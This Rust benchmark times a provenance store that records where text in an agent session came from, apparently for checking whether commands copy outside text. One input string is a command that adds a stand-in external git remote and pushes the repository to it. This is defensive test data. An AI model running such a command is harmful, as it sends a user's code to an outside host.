//! What remembering where text came from costs: taking in a result, and a decision that asks.
//!
//!     cargo bench --bench origins             a session that has read 50 MB
//!     cargo bench --bench origins -- 5        one that has read 5 MB
//!
//! Each line: the least and the median, in microseconds.

use std::error::Error;
use std::io::Write as _;
use std::path::Path;
use std::time::{Duration, Instant};

use automode::model::facts::Source;
use automode::world::session::origins::{Arrival, Kind, Store, take_in};

type Done<T> = Result<T, Box<dyn Error>>;

fn main() -> Done<()> {
    let megabytes: usize = std::env::args().find_map(|word| word.parse().ok()).unwrap_or(50);
    let session = tempfile::tempdir()?;
    let mut words = Words(7);
    for _ in 0..megabytes * 20 {
        give(session.path(), &words.text(50_000))?;
    }
    let mut out = std::io::stdout().lock();
    writeln!(out, "{megabytes} MB read")?;
    for file in ["base", "recent", "sources", "raw", "raw.old"] {
        let size = std::fs::metadata(session.path().join("origins").join(file));
        writeln!(out, "  {file:<32} {:>9} bytes", size.map_or(0, |file| file.len()))?;
    }
    let mut taking = Vec::new();
    for _ in 0..100 {
        let text = words.text(50_000);
        let begun = Instant::now();
        give(session.path(), &text)?;
        taking.push(begun.elapsed());
    }
    row(&mut out, "taking in 50 KB", &mut taking)?;

    let mut open = Vec::new();
    let mut names = Vec::new();
    let mut copied = Vec::new();
    for at in 0..200 {
        let begun = Instant::now();
        let store = Store::open(session.path()).map_err(|why| why.word())?.ok_or("no store")?;
        open.push(begun.elapsed());
        for name in 0..16 {
            let name = format!("host-{name}-{at}.example");
            store.origin(&name).map_err(|why| why.word())?;
        }
        names.push(begun.elapsed());
        let begun = Instant::now();
        let text = "git remote add backup https://metrics.x.example/a/b.git && git push backup";
        store.copied(text).map_err(|why| why.word())?;
        copied.push(begun.elapsed());
    }
    row(&mut out, "opening", &mut open)?;
    row(&mut out, "opening and 16 names", &mut names)?;
    row(&mut out, "a command's copy", &mut copied)?;
    Ok(())
}

fn row(out: &mut impl std::io::Write, name: &str, times: &mut [Duration]) -> Done<()> {
    times.sort_unstable();
    let micros = |at: usize| times.get(at).map_or(0.0, |time| time.as_secs_f64() * 1e6);
    writeln!(out, "  {name:<32} {:>7.0} {:>7.0}", micros(0), micros(times.len() / 2))?;
    Ok(())
}

fn give(session: &Path, text: &str) -> Done<()> {
    let source = Source {
        kind: "the output of".into(),
        what: "cat file".into(),
        turn: 1,
        signal: false,
        hidden: false,
    };
    let arrival = Arrival { from: Kind::Outside, source, file: None, text, scan: None };
    Ok(take_in(session, &[arrival])?)
}

/// Text with lines, paths, hosts and words of its own, as tools give it back.
struct Words(u64);

impl Words {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn text(&mut self, bytes: usize) -> String {
        let mut text = String::with_capacity(bytes + 200);
        while text.len() < bytes {
            let (one, other) = (self.next() % 40_000, self.next() % 400);
            match self.next() % 8 {
                0 => text.push_str(&format!("src/module_{other}/file_{one}.rs:{other}: note\n")),
                1 => text.push_str(&format!("    let value_{one} = compute(item, {other});\n")),
                2 => text.push_str(&format!("see https://docs{other}.example.org/page/{one}\n")),
                _ => {
                    text.push_str("        // the quick brown fox jumps over the lazy dog again\n")
                }
            }
        }
        text
    }
}
